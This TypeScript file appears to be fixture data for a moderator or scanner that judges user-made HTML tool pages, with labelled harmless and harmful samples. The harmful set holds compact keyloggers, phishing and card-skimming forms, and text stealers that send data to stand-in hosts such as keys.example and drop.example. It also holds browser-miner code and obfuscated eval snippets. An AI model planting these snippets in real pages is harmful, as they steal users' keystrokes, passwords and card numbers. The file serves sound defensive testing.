/** `hosts`: declared by the author. The rest is what the database would know. */
export type Sample = {
  html: string;
  hosts?: ReadonlyArray<string>;
  sameCode?: boolean;
  sameName?: boolean;
  rejectedRounds?: number;
};

function page(body: string, script = "") {
  const code = script && `<script>\n${script}\n</script>`;
  return `<!doctype html><html lang="en"><head><title>Tool</title><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body><main><h1>Tool</h1>${body}<p>${"Some words that explain what it does. ".repeat(20)}</p></main>${code}</body></html>`;
}

const of = (body: string, script = "", more: Omit<Sample, "html"> = {}): Sample => ({
  html: page(body, script),
  ...more,
});

const MINIFIED = Array.from(
  { length: 60 },
  (_, n) => `function a${n}(b,c){if(b>c)return b-${n};for(var d=0;d<c;d++)b+=d*${n};return b}var e${n}=a${n}(${n},3);`,
).join("");

/** In the words of the reviewers who tried them. */
export const HARMLESS: Record<string, Sample> = {
  "baby sleep": of("<button id=b>Asleep</button>", "b.onclick = () => localStorage.setItem('asleep', Date.now());"),
  "to-do list": of("<input id=i><ul id=l></ul>", "i.onchange = () => { l.append(i.value); };"),
  "note pad": of("<textarea id=t></textarea>", "t.oninput = () => { localStorage.note = t.value; };"),
  timer: of("<p id=p>0</p>", "let n = 0; setInterval(() => { p.textContent = String(++n); }, 1000);"),
  "arrow-key game": of(
    "<canvas id=c></canvas>",
    "document.addEventListener('keydown', (e) => { if (e.key === 'ArrowLeft') x--; }); let x = 0;",
  ),
  "piano by keys": of("<p>Play</p>", "window.addEventListener('keydown', (e) => play(e.key)); function play(k) {}"),
  "typing trainer": of("<p id=p></p>", "let typed = ''; document.onkeydown = (e) => { typed += e.key; };"),
  "unit converter": of("<input type=number id=n>", "n.oninput = () => { n.title = n.value * 2.54 + ' cm'; };"),
  "exchange rates, declared": of(
    "<input type=number id=n>",
    "fetch('https://rates.example.org/latest?base=' + n.value).then((r) => r.json());",
    { hosts: ["rates.example.org"] },
  ),
  "weather, declared": of("<p id=p></p>", "fetch('https://weather.example.org/now').then((r) => r.json());", {
    hosts: ["weather.example.org"],
  }),
  "weather, host forgotten": of("<p id=p></p>", "fetch('https://weather.example.org/now').then((r) => r.json());"),
  "wiki reader": of("<input id=i>", "fetch('https://en.wikipedia.org/api/rest_v1/page/' + i.value);"),
  "map of places": of("<input id=i>", "fetch('https://nominatim.openstreetmap.org/search?q=' + i.value);"),
  "library from a library host": {
    html: page("<canvas id=c></canvas>", "new Chart(c, {});").replace(
      "</head>",
      '<script src="https://cdn.jsdelivr.net/npm/chart.js@4.4.1/dist/chart.umd.js"></script></head>',
    ),
  },
  "library pasted in": of(
    "<p id=p></p>",
    `/*! tiny.js 1.2.3 | MIT */\n${MINIFIED}\nconst sum = a1(2, 3) + a2(3, 4);\np.textContent = String(sum);`,
  ),
  "sudoku solver in a worker": of(
    "<p id=p></p>",
    "const w = new Worker(URL.createObjectURL(new Blob(['while (true) { if (done()) break; }']))); w.postMessage(1);",
  ),
  "generator without an end": of("<p id=p></p>", "function* ids() { let n = 0; while (true) yield n++; }\nids();"),
  "game loop": of("<canvas id=c></canvas>", "function frame() { requestAnimationFrame(frame); }\nframe();"),
  "drawing with paths in data": of("<svg id=s></svg>", `const points = [${"[12,34],".repeat(600)}];`),
  "old browser code": of("<p id=p></p>", "var self = this; for (var i = 0; i < 3; i++) { p.innerHTML += i; }"),
  "modern syntax": of(
    "<p id=p></p>",
    "class A { #n = 1_000n; static { this.x = 1; } get n() { return this.#n ?? 2n; } }\nconst t = new A()?.n; label: for (const [k, v] of Object.entries({})) continue label;\nconst re = /[/\\]](?<y>a)/giu; async () => { for await (const x of []) x ||= 1; };",
  ),
  "templates and shaders": {
    html: page('<script type="x-shader/x-vertex">void main() { gl_Position = vec4(0); }</script>').replace(
      "</main>",
      '<script type="text/template"><% if (x) { %></script><script type="application/json">{"a": 1}</script></main>',
    ),
  },
  "handlers in the markup": of('<button onclick="this.textContent = `Done`">Press</button>'),
  "form that the app handles": of(
    "<form id=f><input name=n></form>",
    "f.addEventListener('submit', (e) => { e.preventDefault(); f.reset(); });",
  ),
  "links to other pages": of('<a href="https://example.org/about">Author</a>', "console.log('hi');"),
};

export const HARMFUL: Record<string, Sample> = {
  "key logger": of(
    "<p>Relax</p>",
    "let keys = ''; document.addEventListener('keydown', (e) => { keys += e.key; fetch('https://keys.example/k', { method: 'POST', body: keys }); });",
  ),
  "key logger with a picture": of(
    "<p>Relax</p>",
    "window.addEventListener('keypress', (e) => { new Image().src = 'https://keys.example/p?k=' + e.key; });",
  ),
  "key logger through a beacon": of(
    "<p>Relax</p>",
    "const log = []; window.onkeyup = (e) => { log.push(e.key); navigator.sendBeacon('https://keys.example/', log.join('')); };",
  ),
  "key watcher": of(
    "<p>Relax</p>",
    "document.addEventListener('keydown', (e) => { const k = e; send(k); }); function send(k) { fetch('https://keys.example/', { body: k }); }",
  ),
  "phishing form": of(
    "<form action='https://login.example/in' method='post'><input name=u><input type=password name=p></form>",
  ),
  "phishing by script": of(
    "<input id=u><input type=password id=p><button id=b>Sign in</button>",
    "b.onclick = () => fetch('https://login.example/in', { method: 'POST', body: u.value + p.value });",
  ),
  "card form": of(
    "<input id=card placeholder='Card number'>",
    "card.onchange = () => fetch('https://pay.example/c?n=' + card.value);",
  ),
  "text stealer": of(
    "<textarea id=t></textarea>",
    "setInterval(() => navigator.sendBeacon('https://drop.example/', t.value), 5000);",
  ),
  "text stealer in a picture": of(
    "<textarea id=t></textarea>",
    `t.oninput = () => { new Image().src = \`https://drop.example/x?\${t.value}\`; };`,
  ),
  "form to a stranger's server": of("<form action='https://drop.example/'><input name=email></form>"),
  "handler that sends": of(`<input onchange="fetch('https://drop.example/?v=' + this.value)">`),
  "miner in workers": of(
    "<p>Sleep</p>",
    "const code = 'for(;;){ hash(); }'; for (let i = 0; i < 4; i++) new Worker(URL.createObjectURL(new Blob([code]))); new WebSocket('wss://pool.example');",
  ),
  "worker that never stops": of(
    "<p>Sleep</p>",
    "new Worker(URL.createObjectURL(new Blob(['while(true){ n = n * 3 }'])));",
  ),
  "pool without a loop": of(
    "<p>Sleep</p>",
    "const s = new WebSocket('wss://pool.example'); const w = new Worker(url); s.onmessage = (m) => w.postMessage(m.data);",
  ),
  "named miner": of("<p>Sleep</p>", "startMiner('cryptonight');"),
  "page that hangs": of("<p>Sleep</p>", "while (1) { document.title += 'x'; }"),
  "code in one line": of("<p>Clock</p>", MINIFIED),
  "code in one line after a false licence": of("<p>Clock</p>", `/*! jQuery v3.7.1 | (c) OpenJS | MIT */\n${MINIFIED}`),
  "code in one line after a loader's test": of(
    "<p>Clock</p>",
    `!function(e,t){"object"==typeof exports?t(exports):t(e.X={})}(this,function(){});${MINIFIED}`,
  ),
  "hidden code": of("<p>Clock</p>", "eval(atob('YWxlcnQoMSk='));"),
  "escaped code": of("<p>Clock</p>", `const s = "${"\\x61".repeat(60)}"; s.big();`),
  "script with an error": of("<p>Clock</p>", "function tick( { document.title = ; }\ntick();"),
  "script that ends early": of("<p>Clock</p>", "function tick() { if (true) { document.title = 'x';\ntick();"),
  "copied code": of("<p>Garden</p>", "let n = 1;", { sameCode: true }),
  "imitated title": of("<p>Garden</p>", "let n = 1;", { sameName: true }),
  "sends away at its start": of("<p>Win</p>", "location.href = 'https://bit.ly/win';"),
  advertising: of("<p>Win</p><img src='https://ad.doubleclick.net/x.gif'>", "fetch('https://ad.doubleclick.net/y');"),
  "rejected twice": of("<p>Win</p>", "let n = 1;", { rejectedRounds: 2 }),
};

/** Harmless, but a moderator has to look closely to see that. */
export const NEAR_TIES: ReadonlySet<string> = new Set(["exchange rates, declared"]);
